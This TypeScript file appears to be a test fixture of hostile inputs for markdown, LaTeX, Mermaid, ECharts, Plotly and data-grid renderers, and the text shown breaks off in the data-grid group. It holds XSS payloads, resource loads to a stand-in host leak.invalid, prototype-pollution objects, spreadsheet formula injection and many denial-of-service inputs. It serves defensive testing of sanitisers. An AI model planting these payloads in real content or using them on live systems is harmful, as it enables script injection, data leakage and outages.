import type { JsonObject, JsonValue } from '@pf/core'

/** A deliberately hostile payload. It is created on demand, because some payloads are large. */
export interface AdversarialPayload {
  component: string
  name: string
  props: () => JsonObject
}

const LEAK = 'https://leak.invalid/odd'
const RUN = 'window.__pwned=1'
const IMG = `<img src=x onerror="${RUN}"><a href="javascript:${RUN}">a</a>`
/** Parses an object so that special names become own properties instead of changing the prototype. */
const own = (text: string) => JSON.parse(text) as JsonObject
const list = <T>(count: number, item: (index: number) => T): T[] => Array.from({ length: count }, (_, index) => item(index))
const nest = (depth: number, inner: JsonValue, around: (value: JsonValue) => JsonValue): JsonValue => {
  let value = inner
  for (let level = 0; level < depth; level++) value = around(value)
  return value
}

type Group = Record<string, () => JsonObject>
const markdown = (content: () => string) => () => ({ content: content(), allowHtml: true })

const groups: Record<string, Group> = {
  markdown: {
    'raw HTML of every kind': markdown(
      () =>
        `${IMG}\n\n<svg onload=${RUN}><animate onbegin=${RUN} attributeName=x dur=1s><use href="data:image/svg+xml,<svg id=x onload='${RUN}'/>#x"></svg>\n\n<math><mi xlink:href="javascript:${RUN}">x</mi><maction actiontype="statusline#${LEAK}">y</maction></math>\n\n<details open ontoggle=${RUN}><summary>s</summary></details>\n\n<style>*{background:url(${LEAK})}</style><link rel=stylesheet href=${LEAK}><base href=${LEAK}><meta http-equiv=refresh content="0;url=${LEAK}">\n\n<noscript><p title="</noscript>${IMG}">\n\n<form action=${LEAK}><input autofocus onfocus=${RUN}><button formaction="javascript:${RUN}">b</button></form>\n\n<template><img src=${LEAK}></template><picture><source srcset="${LEAK} 1x"><img srcset="${LEAK} 2x"></picture><audio src=${LEAK} autoplay></audio><table background=${LEAK}><tr><td background=${LEAK}>c`,
    ),
    'schemes behind entities, controls and references': markdown(
      () =>
        `[a](java&#115;cript:${RUN}) [b](&#x6A;avascript:${RUN}) [c](java\tscript:${RUN}) [d][r] <javascript:${RUN}> [e](vbscript:x) [f](data:text/html;base64,PHNjcmlwdD4=) [g](//leak.invalid/x) [h](\\\\leak.invalid\\x) [i](blob:https://x/y) ![j](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9Ii8+) ![k][r] ![l](${LEAK} "t")\n\n[r]: javascript:${RUN}\n[R]: JaVaScRiPt:${RUN}`,
    ),
    'names that would take the place of the document’s': markdown(
      () =>
        `<a id=body name=getElementById>a</a><a id=attributes>b</a><a id=__proto__>c</a><a id=root>d</a>\n\n# attributes\n\n## getElementById\n\n[^constructor] [^__proto__] [^root]\n\n[^constructor]: x\n[^__proto__]: y\n[^root]: z`,
    ),
    'a footnote inside of itself': markdown(() => 'a[^1]\n\n[^1]: b[^1] [^2]\n[^2]: c[^1]'),
    'quotes and lists in one another': markdown(() => `${'> - '.repeat(3_000)}x`),
    'brackets in one another': markdown(() => `${'['.repeat(20_000)}x${'](y)'.repeat(20_000)}`),
    'marks in one another': markdown(() => `${'*a _b '.repeat(20_000)}`),
    'HTML in itself': markdown(() => `${'<b>'.repeat(20_000)}x`),
    'five million characters': markdown(() => 'word '.repeat(1_000_000)),
    'one line without a space': markdown(() => 'x'.repeat(400_000)),
    'a table of few words and a million cells': markdown(() => `|${'a|'.repeat(1_000)}\n|${'-|'.repeat(1_000)}\n${'|a\n'.repeat(1_000)}`),
    'a table in a list in a quote': markdown(() => `> - |${'a|'.repeat(500)}\n>   |${'-|'.repeat(500)}\n${'>   |a\n'.repeat(1_000)}`),
    'lists in lists on every line': markdown(() => `${'- '.repeat(39)}x\n`.repeat(1_900)),
    'lists that go in on every line': markdown(() => list(1_500, (at) => `> ${' '.repeat(Math.min(180, at * 2))}- x`).join('\n')),
    'a long address used often': markdown(() => `${'[a] '.repeat(1_400)}\n\n[a]: https://example.org/${'x'.repeat(90_000)}`),
    'headings of one line': markdown(() => 'a\n=\n'.repeat(900)),
    'a table of ten thousand columns': markdown(() => `|${'a|'.repeat(10_000)}\n|${'-|'.repeat(10_000)}\n|${'1|'.repeat(10_000)}`),
    'thousands of links': markdown(() => `[a](${LEAK}) `.repeat(5_000)),
    'thousands of formulas': markdown(() => '$x^2$ $$\\frac{1}{2}$$ '.repeat(3_000)),
    'a formula that grows': markdown(() => '$\\def\\a{xxxxxxxxxx}\\def\\b{\\a\\a\\a\\a\\a\\a\\a\\a}\\def\\c{\\b\\b\\b\\b\\b\\b\\b\\b}\\def\\d{\\c\\c\\c\\c\\c\\c\\c\\c}\\d\\d\\d\\d\\d\\d$'),
    'a formula with a link': markdown(() => `$\\href{javascript:${RUN}}{x}$ $$\\includegraphics{${LEAK}}$$ $\\htmlClass{pf-card}{x}$`),
    'code with a language of a prototype': markdown(() => '```constructor\nx\n```\n\n```__proto__\ny\n```\n\n```html\n<script>1</script>\n```'),
    'controls that reorder': markdown(() => '\u202Egnp.exe\u2066 [\u202Emoc.elpmaxe](https://leak.invalid) `\u202Ecode`'),
    'half of a pair': markdown(() => '\ud800 x \udc00 **\ud83d**'),
    'emphasis that is costly': markdown(() => `${'**a '.repeat(5_000)}\n\n${'_a__b'.repeat(5_000)}\n\n${'`'.repeat(9_000)}x\n\n${'<!--'.repeat(5_000)}\n\n${'[^'.repeat(5_000)}`),
    'addresses without end': markdown(() => `${'www.a'.repeat(20_000)} ${'a@'.repeat(20_000)} ${'http://'.repeat(10_000)}`),
  },
  latex: {
    'links and classes': () => ({
      expression: `\\href{javascript:${RUN}}{x}\\url{javascript:${RUN}}\\htmlClass{pf-card}{y}\\htmlId{root}{z}\\htmlStyle{position:fixed}{w}\\htmlData{a=b}{v}`,
    }),
    'a picture': () => ({ expression: `\\includegraphics[width=9999em]{${LEAK}}` }),
    'a macro that doubles': () => ({ expression: `\\def\\a{xx}${list(40, (at) => `\\def\\${'ab'[at % 2]}{\\${'ba'[at % 2]}\\${'ba'[at % 2]}}`).join('')}\\a` }),
    'a macro that calls itself': () => ({ expression: '\\def\\a{\\a\\a}\\a' }),
    'huge measures': () => ({ expression: '\\rule{99999em}{99999em}\\kern-9999em x\\raise9999em{y}\\Huge\\Huge x' }),
    'deep groups': () => ({ expression: `${'{'.repeat(3_000)}x${'}'.repeat(3_000)}` }),
    'deep roots': () => ({ expression: `${'\\sqrt{'.repeat(2_000)}x${'}'.repeat(2_000)}` }),
    'a matrix of ten thousand cells': () => ({ expression: `\\begin{matrix}${list(100, () => list(100, String).join('&')).join('\\\\')}\\end{matrix}` }),
    'a hundred thousand characters': () => ({ expression: 'x+'.repeat(50_000) }),
    'HTML and controls': () => ({ expression: `\\text{${IMG}\u202Eabc} \u0000` }),
    'an annotation that ends': () => ({ expression: `x</annotation></semantics></math>${IMG}` }),
  },
  mermaid: {
    'clicks and callbacks': () => ({
      code: `graph TD\n A[x]-->B\n click A "javascript:${RUN}" "t"\n click B call alert()\n click A href "${LEAK}"; click B callback\n A@{ shape: rect, label: "l" }`,
    }),
    'settings at the start': () => ({
      code: `%%{init: {"securityLevel":"loose","htmlLabels":true,"fontFamily":"x;}*{background:url(${LEAK})}","themeCSS":"*{background:url(${LEAK})}"}}%%\ngraph TD\n A["${IMG.replaceAll('"', "'")}"]-->B`,
    }),
    'settings in a matter': () => ({ code: `---\nconfig:\n  securityLevel: loose\n  htmlLabels: true\n---\ngraph TD\n A["<b onclick='${RUN}'>x</b>"]` }),
    'HTML in labels': () => ({ code: `graph TD\n A["<img src='${LEAK}' onerror='${RUN}'>"] -->|"<script>${RUN}</script>"| B["<style>*{display:none}</style>"]` }),
    'ten thousand nodes': () => ({ code: `graph TD\n${list(10_000, (at) => ` n${at}`).join('\n')}` }),
    'four hundred nodes': () => ({ code: `graph TD\n${list(400, (at) => ` n${at}-->n${(at * 7) % 400}`).join('\n')}` }),
    'groups in groups': () => ({ code: `graph TD\n${'subgraph a\n'.repeat(200)}x\n${'end\n'.repeat(200)}` }),
    'a name of a prototype': () => ({ code: 'graph TD\n __proto__-->constructor\n constructor-->toString\n classDef __proto__ fill:#f00\n class constructor __proto__' }),
    'classes with addresses': () => ({ code: `graph TD\n A-->B\n classDef c fill:url(${LEAK}),stroke:red;}*{display:none\n class A c\n style B background:u\\72l(${LEAK})` }),
    'a formula': () => ({ code: `graph TD\n A["$$\\href{javascript:${RUN}}{x}$$"]` }),
    'a long word': () => ({ code: `graph TD\n A["${'x'.repeat(20_000)}"]` }),
    'a long text': () => ({ code: `graph TD\n A["${'word '.repeat(9_000)}"]` }),
    'words beneath the limit': () => ({ code: `graph TD\n${list(40, (at) => ` n${at}["${'x'.repeat(990)}"]`).join('\n')}` }),
    'a long word in a sequence': () => ({ code: `sequenceDiagram\n A->>B: ${'x'.repeat(20_000)}\n Note over A,B: ${'y'.repeat(20_000)}` }),
    'a mind map of one word': () => ({ code: `mindmap\n root\n${list(300, (at) => `  ${'n'.repeat(90)}${at}`).join('\n')}` }),
    'a time line without end': () => ({ code: `timeline\n${list(800, (at) => ` ${at} : a : b : c`).join('\n')}` }),
    'a quadrant and a radar of nothing': () => ({ code: 'quadrantChart\n x-axis a --> b\n p: [1e99, -1e99]' }),
    'a sankey of many': () => ({ code: `sankey-beta\n${list(900, (at) => `a${at},b${at % 30},1`).join('\n')}` }),
    'classes without end': () => ({ code: `classDiagram\n${list(290, (at) => ` A${at} <|-- A${at + 1}`).join('\n')}` }),
    'states without end': () => ({ code: `stateDiagram-v2\n${list(250, (at) => ` s${at} --> s${at + 1}`).join('\n')}` }),
    'a mind map at the limit': () => ({ code: `mindmap\n root\n${list(145, (at) => `  n${at}`).join('\n')}` }),
    'a time line at the limit': () => ({ code: `timeline\n${list(148, (at) => ` ${at} : a : b : c`).join('\n')}` }),
    'services of an architecture': () => ({ code: `architecture-beta\n${list(70, (at) => ` service s${at}(server)[S]`).join('\n')}\n${list(69, (at) => ` s${at}:R -- L:s${at + 1}`).join('\n')}` }),
    'blocks at the limit': () => ({ code: `block-beta\n columns 9\n${list(140, (at) => ` a${at} b${at} c${at} d${at} e${at}`).join('\n')}` }),
    'branches of history': () => ({ code: `gitGraph\n${list(900, (at) => (at % 9 ? ' commit' : ` branch b${at}`)).join('\n')}` }),
    'a journey at the limit': () => ({ code: `journey\n${list(140, (at) => `  t${at}: 5: Me, You`).join('\n')}` }),
    'boards at the limit': () => ({ code: `kanban\n${list(140, (at) => (at % 9 ? `  c${at}[x]` : ` b${at}`)).join('\n')}` }),
    'relations of many things': () => ({ code: `erDiagram\n${list(140, (at) => ` A${at} ||--o{ B${at % 50} : x`).join('\n')}` }),
    'needs of many': () => ({ code: `requirementDiagram\n${list(150, (at) => ` requirement r${at} {\n id: ${at}\n text: x\n risk: high\n verifymethod: test\n }`).join('\n')}` }),
    'points of a graph': () => ({ code: `xychart-beta\n x-axis [${list(3_000, String).join(',')}]\n line [${list(3_000, String).join(',')}]` }),
    'people of a system': () => ({ code: `C4Context\n${list(140, (at) => ` Person(p${at}, "x", "y")`).join('\n')}` }),
    'links at the limit': () => ({ code: `graph TD\n${list(140, (at) => ` n${at}-->n${(at * 7) % 140}`).join('\n')}` }),
    'tasks at the limit': () => ({ code: `gantt\n dateFormat YYYY-MM-DD\n${list(900, (at) => ` t${at} :a${at}, 2020-01-01, ${at}d`).join('\n')}` }),
    'a pie of nothing': () => ({ code: 'pie title x\n "a" : 0\n "b" : 1e400' }),
    'a time plan without end': () => ({ code: 'gantt\n dateFormat YYYY-MM-DD\n tickInterval 1millisecond\n a :a1, 0001-01-01, 999999d' }),
    'ten thousand messages': () => ({ code: `sequenceDiagram\n${' A->>B: x\n'.repeat(900)}` }),
    'unknown words': () => ({ code: 'constructor\n x' }),
  },
  echarts: {
    'HTML where words go': () => ({
      option: {
        title: { text: IMG, subtext: IMG, link: `javascript:${RUN}`, sublink: LEAK },
        legend: { data: [IMG], formatter: IMG },
        tooltip: { trigger: 'axis', formatter: `${IMG}{b}`, extraCssText: `background:url(${LEAK})`, renderMode: 'html', className: 'pf-card' },
        xAxis: { data: [IMG, 'b'], axisLabel: { formatter: `${IMG}{value}`, rich: { a: { backgroundColor: { image: LEAK } } } } },
        yAxis: {},
        series: [{ type: 'bar', name: IMG, data: [1, 2], label: { show: true, formatter: `${IMG}{c}` } }],
      },
    }),
    'functions as words': () => ({
      option: { xAxis: { data: ['a'] }, yAxis: {}, tooltip: { formatter: `function(){${RUN}}` }, series: [{ type: 'bar', data: [1], itemStyle: { color: `()=>{${RUN}}` }, symbolSize: `function(){${RUN}}` }] },
    }),
    'pictures from elsewhere': () => ({
      option: {
        backgroundColor: { image: LEAK, repeat: 'repeat' },
        graphic: [{ type: 'image', style: { image: LEAK } }, { type: 'text', style: { text: 'x' }, onclick: RUN }],
        toolbox: { show: true, feature: { saveAsImage: { icon: `image://${LEAK}` }, dataView: { optionToContent: IMG }, myTool: { show: true, icon: `image://${LEAK}`, onclick: RUN } } },
        xAxis: { data: ['a'] },
        yAxis: {},
        series: [
          { type: 'line', symbol: `image://${LEAK}`, data: [{ value: 1, symbol: `image://${LEAK}`, label: { show: true, backgroundColor: { image: LEAK } } }], markPoint: { symbol: `image://${LEAK}`, data: [{ type: 'max' }] } },
          { type: 'pictorialBar', symbol: `image://${LEAK}`, data: [1] },
          { type: 'bar', data: [1], itemStyle: { color: { type: 'pattern', image: LEAK }, decal: { symbol: `image://${LEAK}` } } },
        ],
      },
    }),
    'names of a prototype': () => ({
      option: own(
        '{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}},"xAxis":{"data":["__proto__","constructor","toString"]},"yAxis":{},"dataset":{"source":[{"__proto__":1,"constructor":2}]},"series":[{"type":"bar","name":"__proto__","data":[1,2,3],"__proto__":{"polluted":1}},{"type":"pie","data":[{"name":"constructor","value":1},{"name":"__proto__","value":2}]}]}',
      ),
    }),
    'names of a prototype as data': () => ({
      option: {
        title: { text: '__proto__' },
        legend: { data: ['__proto__', 'constructor', 'toString'], formatter: '__{name}__' },
        tooltip: { formatter: '__{b}__' },
        xAxis: { data: ['__proto__', 'constructor', 'toString', 'valueOf', 'x\n__proto__', 'proto', '__'], name: '__proto__', axisLabel: { formatter: '__{value}__', rich: { a: {} } } },
        yAxis: {},
        visualMap: { type: 'piecewise', categories: ['__proto__', 'constructor'], show: false, seriesIndex: 9 },
        series: [
          { type: 'bar', name: '__proto__', stack: '__proto__', id: '__proto__', data: [1, 2, 3, 4, 5, 6, 7], color: '__proto__', label: { show: true, formatter: '{__{b}__|x}{constructor|{b}}{a|__proto__}', rich: { a: { color: 'constructor' } } } },
          { type: 'bar', name: 'constructor', stack: 'constructor', data: [{ value: 1, name: '__proto__', itemStyle: { color: '__proto__' } }], markPoint: { data: [{ coord: ['__proto__', 1], name: '__proto__', value: '__proto__' }] } },
          { type: 'pie', name: 'toString', data: [{ name: 'constructor', value: 1 }, { name: '__proto__', value: 2 }] },
        ],
      },
    }),
    'names of a prototype in trees and links': () => ({
      option: {
        series: [
          { type: 'graph', data: [{ name: '__proto__', category: '__proto__' }, { id: 'constructor' }, { name: 'toString' }], categories: [{ name: '__proto__' }], links: [{ source: '__proto__', target: 'constructor' }] },
          { type: 'sankey', data: [{ name: '__proto__' }, { name: 'constructor' }], links: [{ source: '__proto__', target: 'constructor', value: 1 }] },
          { type: 'treemap', data: [{ name: '__proto__', value: 1, children: [{ name: 'constructor', value: 1 }] }] },
          { type: 'sunburst', data: [{ name: '__proto__', value: 1, children: [{ name: '__proto__', value: 1 }] }] },
          { type: 'tree', data: [{ name: '__proto__', children: [{ name: 'constructor' }] }] },
        ],
      },
    }),
    'names of a prototype in rows': () => ({
      option: { dataset: { dimensions: ['__proto__', 'constructor', 'v'], source: [['__proto__', 'constructor', 1], ['constructor', '__proto__', 2]] }, xAxis: { type: 'category' }, yAxis: {}, legend: {}, series: [{ type: 'bar', encode: { x: '__proto__', y: 'v', tooltip: 'constructor' } }, { type: 'pie', encode: { itemName: 'constructor', value: 'v' }, label: { formatter: '{@constructor}' } }] },
    }),
    'names of a prototype in rivers and radars': () => ({
      option: { singleAxis: { type: 'time' }, radar: { indicator: [{ name: '__proto__' }, { name: 'constructor' }, { name: 'x' }] }, series: [{ type: 'themeRiver', data: [['2020-01-01', 2, '__proto__'], ['2020-01-02', 3, '__proto__'], ['2020-01-01', 2, 'constructor'], ['2020-01-02', 3, 'constructor']] }, { type: 'radar', data: [{ name: '__proto__', value: [1, 2, 3] }] }] },
    }),
    'figures that are none': () => ({
      option: { xAxis: { data: ['a', 'b', 'c', 'd', 'e'], min: 1e308, max: -1e308 }, yAxis: { min: 'x', max: null, interval: 0, splitNumber: 1e9 }, series: [{ type: 'line', data: ['NaN', 'Infinity', -1e308, 1e308, null] }, { type: 'bar', data: [{}, [], [[]], true, ''] }] },
    }),
    'an axis of endless steps': () => ({ option: { xAxis: { type: 'value', interval: 1e-9 }, yAxis: { type: 'value', minInterval: 1e-12, maxInterval: 1e-9 }, series: [{ type: 'scatter', data: [[0, 0], [1e6, 1e6]] }] } }),
    'a logarithm of nothing': () => ({ option: { xAxis: { type: 'log', logBase: 0 }, yAxis: { type: 'log', logBase: 1 }, series: [{ type: 'line', data: [[-1, 0], [0, -5]] }] } }),
    'time without end': () => ({ option: { xAxis: { type: 'time', min: -8.64e15, max: 8.64e15, minInterval: 1 }, yAxis: {}, series: [{ type: 'line', data: [['0000-00-00', 1], [9e15, 2], ['x', 3]] }] } }),
    'a million points': () => ({ option: { xAxis: {}, yAxis: {}, series: [{ type: 'scatter', data: list(1_000_000, (at) => [at, at % 97]) }] } }),
    'ten thousand series': () => ({ option: { xAxis: { data: ['a', 'b'] }, yAxis: {}, legend: {}, series: list(10_000, (at) => ({ type: 'line', name: `s${at}`, data: [at, at] })) } }),
    'ten thousand slices': () => ({ option: { series: [{ type: 'pie', data: list(10_000, (at) => ({ name: `n${at}`, value: at })) }] } }),
    'ten thousand leaves': () => ({ option: { series: [{ type: 'treemap', data: list(10_000, (at) => ({ name: `n${at}`, value: at + 1 })) }] } }),
    'ten thousand rings': () => ({ option: { series: [{ type: 'sunburst', data: list(100, (at) => ({ name: `n${at}`, children: list(100, (n) => ({ name: `m${n}`, value: n + 1 })) })) }] } }),
    'ten thousand branches': () => ({ option: { series: [{ type: 'tree', initialTreeDepth: -1, data: [{ name: 'r', children: list(100, (at) => ({ name: `n${at}`, children: list(100, (n) => ({ name: `m${n}` })) })) }] }] } }),
    'a sankey of thousands': () => ({ option: { series: [{ type: 'sankey', layoutIterations: 1e9, data: list(2_000, (at) => ({ name: `${at}` })), links: list(5_000, (at) => ({ source: `${at % 1_000}`, target: `${1_000 + ((at * 7) % 1_000)}`, value: 1 })) }] } }),
    'a graph of thousands': () => ({ option: { series: [{ type: 'graph', layout: 'none', data: list(3_000, (at) => ({ name: `${at}`, x: at, y: at % 7 })), links: list(9_000, (at) => ({ source: at % 3_000, target: (at * 7) % 3_000 })), label: { show: true } }] } }),
    'a radar of thousands': () => ({ option: { radar: { indicator: list(5_000, (at) => ({ name: `i${at}`, max: 9 })) }, series: [{ type: 'radar', data: [{ value: list(5_000, (at) => at % 9) }] }] } }),
    'parallel axes of thousands': () => ({ option: { parallelAxis: list(2_000, (dim) => ({ dim, name: `d${dim}` })), series: [{ type: 'parallel', data: list(20, () => list(2_000, Number)) }] } }),
    'marks of thousands': () => ({ option: { xAxis: { data: ['a', 'b'] }, yAxis: {}, series: [{ type: 'line', data: [1, 2], markPoint: { data: list(10_000, () => ({ coord: ['a', 1], label: { show: true } })) }, markLine: { data: list(10_000, (at) => ({ yAxis: at })) }, markArea: { data: list(5_000, () => [{ xAxis: 'a' }, { xAxis: 'b' }]) } }] } }),
    'a gauge of endless ticks': () => ({ option: { series: [{ type: 'gauge', splitNumber: 1e9, axisTick: { splitNumber: 1e9 }, min: -1e308, max: 1e308, data: list(1_000, (at) => ({ value: at, name: `${at}` })) }] } }),
    'a river of thousands': () => ({ option: { singleAxis: { type: 'time' }, series: [{ type: 'themeRiver', data: list(20_000, (at) => [1e12 + at * 1e6, at % 9, `n${at % 300}`]) }] } }),
    'labels of thousands': () => ({ option: { xAxis: { type: 'category', data: list(20_000, (at) => `c${at}`), axisLabel: { interval: 0, rotate: 33 } }, yAxis: {}, series: [{ type: 'bar', label: { show: true }, labelLayout: { moveOverlap: 'shiftY' }, data: list(20_000, Number) }] } }),
    'a heatmap of many cells': () => ({ option: { xAxis: { data: list(200, String) }, yAxis: { data: list(200, String) }, visualMap: { min: 0, max: 9 }, series: [{ type: 'heatmap', label: { show: true }, data: list(40_000, (at) => [at % 200, Math.floor(at / 200), at % 9]) }] } }),
    'words of thousands in a legend': () => ({ option: { legend: { data: list(10_000, (at) => `n${at}`) }, series: [{ type: 'funnel', data: list(10_000, (at) => ({ name: `n${at}`, value: at })) }] } }),
    'steps of a visual map': () => ({ option: { visualMap: { type: 'piecewise', splitNumber: 1e9, min: 0, max: 1e9, pieces: list(10_000, (at) => ({ min: at, max: at + 1 })) }, xAxis: {}, yAxis: {}, series: [{ type: 'scatter', data: [[1, 2]] }] } }),
    'a deep tree': () => ({ option: { series: [{ type: 'treemap', data: [nest(500, { name: 'x', value: 1 }, (value) => ({ name: 'n', children: [value] }))] }] } } as JsonObject),
    'a wide sankey with a circle': () => ({ option: { series: [{ type: 'sankey', data: list(3, (at) => ({ name: `${at}` })), links: [{ source: '0', target: '1', value: 1 }, { source: '1', target: '0', value: 1 }, { source: '2', target: '2', value: 1 }] }] } }),
    'a graph of names that are not there': () => ({ option: { series: [{ type: 'graph', layout: 'force', data: [{ name: 'a' }, { name: 'a' }, { id: '__proto__' }], links: [{ source: 'a', target: 'nobody' }, { source: 7, target: -1 }] }] } }),
    'sizes below nothing': () => ({ height: -400, width: -5, option: { grid: { left: -5_000, right: '900%', width: -1, height: 0 }, xAxis: { data: ['a'] }, yAxis: {}, series: [{ type: 'bar', barWidth: -50, data: [1] }, { type: 'pie', radius: [-5, '-100%'], center: ['1e9%', -1e9], data: [{ value: -1 }] }] } }),
    'sizes beyond all': () => ({ height: 1e9, width: 1e9, option: { textStyle: { fontSize: 1e9 }, title: { text: 'x', textStyle: { fontSize: 1e8, rich: { a: { width: 1e9, height: 1e9 } } } }, xAxis: { data: ['a'], axisLabel: { fontSize: 1e7, width: 1e9 } }, yAxis: {}, series: [{ type: 'line', symbolSize: 1e9, lineStyle: { width: 1e9, shadowBlur: 1e9, type: [1e-9, 1e-9] }, data: [1] }] } }),
    'a dash without length': () => ({ option: { xAxis: { data: ['a', 'b'] }, yAxis: { splitLine: { lineStyle: { type: [0.0001, 0.0001] } } }, series: [{ type: 'line', data: [1, 2], lineStyle: { type: [0, 0], dashOffset: 1e308 } }] } }),
    'references to no data set': () => ({ option: { dataset: [{ fromDatasetIndex: 1, transform: { type: 'filter', config: {} } }, { fromDatasetIndex: 0, transform: [{ type: 'nobody:x' }] }], xAxis: {}, yAxis: {}, series: [{ type: 'bar', datasetIndex: 99, encode: { x: '__proto__', y: -1 } }] } }),
    'a timeline and states in one another': () => ({ option: { baseOption: { timeline: { data: list(2_000, String), autoPlay: true, playInterval: 0 }, xAxis: { data: ['a'] }, yAxis: {}, series: [{ type: 'bar', data: [1] }] }, options: list(2_000, (at) => ({ series: [{ data: [at] }] })), media: [{ query: { minWidth: 1 }, option: { title: { text: IMG } } }] } }),
    'rich words without end': () => ({ option: { title: { text: `{a|${'x'.repeat(100_000)}}`, textStyle: { rich: { a: { lineHeight: 1e6 } } } }, xAxis: { data: list(2_000, () => 'y'.repeat(500)) }, yAxis: {}, series: [{ type: 'bar', data: list(2_000, Number) }] } }),
    'lists where objects belong': () => ({ option: { title: [[[]]], legend: 7, grid: 'x', xAxis: [[], null, 5], yAxis: null, series: [null, 5, 'x', [], { type: {} }, { type: '__proto__' }, { type: 'line', data: 'abc' }] } } as unknown as JsonObject),
  },
  plotly: {
    'HTML in titles': () => ({
      data: [{ type: 'bar', x: [IMG, 'b'], y: [1, 2], name: `<a href="javascript:${RUN}">n</a>`, text: [`<a href="${LEAK}" target="_self">t</a>`, IMG], hovertemplate: `<a href="javascript:${RUN}">%{x}</a><extra>${IMG}</extra>`, hovertext: [IMG], customdata: [IMG] }],
      layout: { title: { text: `<a href="javascript:${RUN}">x</a><br><span style="background:url(${LEAK})">y</span>` }, xaxis: { title: IMG, ticktext: [IMG], tickvals: [0] }, annotations: [{ text: `<a href="${LEAK}">z</a>`, x: 0, y: 1, captureevents: true }] },
    }),
    'pictures and maps': () => ({
      data: [{ type: 'image', source: LEAK }, { type: 'bar', y: [1] }, { type: 'scattermapbox', lat: [1], lon: [1] }, { type: 'choropleth', geojson: LEAK, locations: ['a'], z: [1] }],
      layout: { images: [{ source: LEAK, x: 0, y: 0, sizex: 1, sizey: 1 }], mapbox: { style: LEAK, accesstoken: 'x' }, geo: { topojsonURL: LEAK }, template: { layout: { images: [{ source: LEAK }], title: { text: IMG } } } },
      config: { topojsonURL: LEAK, plotlyServerURL: LEAK, mapboxAccessToken: 'x', editable: true, showSendToCloud: true, modeBarButtonsToAdd: [{ name: 'x', click: RUN }], displaylogo: true },
    }),
    'names of a prototype': () => own('{"data":[{"type":"bar","y":[1],"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}},"marker.__proto__.polluted":1}],"layout":{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":2}},"xaxis.__proto__.polluted":1}}'),
    'names of a prototype as data': () => ({ data: [{ type: 'bar', x: ['__proto__', 'constructor', 'toString', 'valueOf'], y: [1, 2, 3, 4], name: '__proto__', legendgroup: '__proto__', stackgroup: '__proto__', offsetgroup: 'constructor', alignmentgroup: '__proto__', text: ['__proto__', 'constructor'], hovertemplate: '%{__proto__} %{constructor}' }, { type: 'scatter', mode: 'lines', stackgroup: '__proto__', x: [1], y: [1], name: 'constructor', xaxis: '__proto__' }, { type: 'pie', labels: ['__proto__', 'constructor', 'toString'], values: [1, 2, 3], scalegroup: '__proto__' }, { type: 'box', x: ['__proto__', 'a'], y: [1, 2] }, { type: 'heatmap', x: ['__proto__'], y: ['constructor'], z: [[1]], coloraxis: '__proto__', colorscale: '__proto__' }], layout: { barmode: 'stack', legend: { traceorder: 'grouped' }, xaxis: { categoryarray: ['__proto__'], categoryorder: 'array', matches: '__proto__', scaleanchor: 'constructor', overlaying: '__proto__' } } }),
    'transforms and menus': () => ({ data: [{ y: [1, 2], transforms: [{ type: 'filter', target: '__proto__' }] }], layout: { updatemenus: [{ buttons: [{ method: 'relayout', args: ['images', [{ source: LEAK }]], label: IMG, execute: true }] }], sliders: [{ steps: list(5_000, (at) => ({ label: `${at}`, method: 'restyle', args: [] })) }] } }),
    'a million points': () => ({ data: [{ type: 'scattergl', x: list(1_000_000, Number), y: list(1_000_000, (at) => at % 97) }] }),
    'thousands of traces': () => ({ data: list(5_000, (at) => ({ y: [at, 1], name: `t${at}` })) }),
    'thousands of annotations and shapes': () => ({ data: [{ y: [1] }], layout: { annotations: list(10_000, () => ({ text: 'x', x: 0, y: 1 })), shapes: list(10_000, () => ({ type: 'path', path: 'M0,0L1e9,1e9Z' })) } }),
    'ticks without end': () => ({ data: [{ x: [0, 1e9], y: [0, 1e9] }], layout: { xaxis: { dtick: 1e-9, tick0: 0 }, yaxis: { nticks: 1e9, tickmode: 'linear', dtick: 1e-9, minor: { dtick: 1e-9 } } } }),
    'sizes below and beyond': () => ({ data: [{ y: [1], marker: { size: 1e9 }, line: { width: 1e9 } }], layout: { width: -5, height: 1e9, margin: { l: 1e9, r: -1e9 }, font: { size: 1e9, family: `x;}*{background:url(${LEAK})}` } }, height: -1 }),
    'a histogram without end': () => ({ data: [{ type: 'histogram', x: [0, 1e9], xbins: { start: 0, end: 1e9, size: 1e-3 } }, { type: 'histogram2d', x: [0, 1], y: [0, 1], nbinsx: 1e6, nbinsy: 1e6 }] }),
    'endless levels in words': () => ({ data: [{ type: 'contour', autocontour: false, z: [[1, 2], [3, 1e6]], contours: { start: '0', end: '1e6', size: '0.001' } }, { type: 'histogram2dcontour', x: [1, 2, 3], y: [1, 2, 3], contours: { start: 0, end: 1e6, size: 1e-3, showlabels: true } }] }),
    'thousands of slices': () => ({ data: [{ type: 'pie', values: list(5_000, (at) => at + 1), labels: list(5_000, (at) => `n${at}`), textposition: 'outside' }] }),
    'a wide contour': () => ({ data: [{ type: 'contour', ncontours: 1e6, z: list(150, (row) => list(150, (column) => (row * 7 + column * 13) % 17)), contours: { coloring: 'lines', showlabels: true } }] }),
    'boxes of thousands': () => ({ data: [{ type: 'box', x: list(5_000, (at) => `c${at}`), y: list(5_000, Number), boxpoints: 'all' }] }),
    'labels of thousands': () => ({ data: [{ type: 'bar', x: list(4_000, (at) => `a long label ${at}`), y: list(4_000, Number), text: list(4_000, String), textposition: 'outside' }], layout: { xaxis: { tickmode: 'array', tickvals: list(4_000, Number), ticktext: list(4_000, (at) => `a long label ${at}`) } } }),
    'a wide heatmap': () => ({ data: [{ type: 'heatmap', z: list(1_000, () => list(1_000, Number)) }] }),
    'a contour of endless levels': () => ({ data: [{ type: 'contour', z: [[1, 2], [3, 1e6]], contours: { start: 0, end: 1e6, size: 1e-3 } }] }),
    'a violin and a table': () => ({ data: [{ type: 'violin', y: list(50_000, (at) => at % 11), points: 'all', span: [-1e9, 1e9], bandwidth: 1e-9 }, { type: 'table', header: { values: [IMG] }, cells: { values: [[IMG]] } }] }),
    'lists where objects belong': () => ({ data: [null, 5, [], { type: {} }, { y: 'abc' }, { y: [[], {}] }], layout: [] } as unknown as JsonObject),
  },
  datagrid: {
    'HTML and formulas in cells': () => ({ exportable: true, sortable: true, filterable: true, columns: [{ field: 'a', header: IMG }, { field: 'b', header: '=cmd|x', format: 'link' }], rows: [{ a: IMG, b: `javascript:${RUN}` }, { a: "=HYPERLINK('x')", b: LEAK }, { a: '\t=1', b: '\u202E@SUM' }] }),
